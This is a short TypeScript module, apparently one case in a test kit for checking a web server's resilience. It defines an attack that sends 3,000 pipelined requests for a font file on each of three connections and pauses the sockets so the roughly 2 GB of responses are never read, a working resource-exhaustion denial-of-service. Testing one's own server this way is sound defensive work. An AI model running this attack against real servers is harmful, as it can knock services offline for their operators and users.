import type { Attack } from '../kit/attack.js';
import { head } from '../kit/target.js';

/** 3,000 requests in 141 kB on each of three connections, whose answers would be 2 GB, and are never read. */
export const attack: Attack = {
  name: 'thousands of pipelined requests for a font, never read',
  async run(target) {
    const wire = head('GET /fonts/Inter_400Regular.ttf').repeat(3000);
    const sockets = await target.many(3);
    for (const socket of sockets) socket.pause().write(wire);
    await target.wait();
  },
};
